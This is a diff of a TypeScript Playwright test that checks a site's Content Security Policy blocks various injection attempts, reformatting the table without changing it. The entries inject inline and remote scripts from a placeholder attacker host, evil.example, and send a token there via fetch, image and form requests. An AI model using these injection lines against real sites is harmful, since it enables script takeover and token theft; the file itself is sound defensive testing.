@@ -10,35 +10,53 @@ const noticed = (page: Page, directive: string) =>
   page.waitForEvent('console', (message) => message.text().startsWith(`Forbidden by the policy: ${directive}`));
 
 const ATTEMPTS = {
-  'a script in the page': ['script-src-elem', () => {
-    const script = document.createElement('script');
-    script.textContent = 'globalThis.isTakenOver = true';
-    document.body.append(script);
-  }],
-  'a script of another site': ['script-src-elem', () => {
-    const script = document.createElement('script');
-    script.src = 'https://evil.example/x.js';
-    document.body.append(script);
-  }],
-  'a script in an attribute': ['script-src-attr', () => {
-    document.body.setAttribute('onclick', 'globalThis.isTakenOver = true');
-    document.body.click();
-  }],
+  'a script in the page': [
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script');
+      script.textContent = 'globalThis.isTakenOver = true';
+      document.body.append(script);
+    },
+  ],
+  'a script of another site': [
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/x.js';
+      document.body.append(script);
+    },
+  ],
+  'a script in an attribute': [
+    'script-src-attr',
+    () => {
+      document.body.setAttribute('onclick', 'globalThis.isTakenOver = true');
+      document.body.click();
+    },
+  ],
   'a call to another site': ['connect-src', () => void fetch('https://evil.example/?token=x').catch(() => undefined)],
-  'a picture of another site': ['img-src', () => {
-    new Image().src = 'https://evil.example/x.png?token=x';
-  }],
-  'another site in a frame': ['frame-src', () => {
-    const frame = document.createElement('iframe');
-    frame.src = 'https://evil.example/';
-    document.body.append(frame);
-  }],
-  'a form to another site': ['form-action', () => {
-    const form = document.createElement('form');
-    form.action = 'https://evil.example/';
-    document.body.append(form);
-    form.submit();
-  }],
+  'a picture of another site': [
+    'img-src',
+    () => {
+      new Image().src = 'https://evil.example/x.png?token=x';
+    },
+  ],
+  'another site in a frame': [
+    'frame-src',
+    () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      document.body.append(frame);
+    },
+  ],
+  'a form to another site': [
+    'form-action',
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  ],
 } as const;
 
 test.describe('the policy', () => {
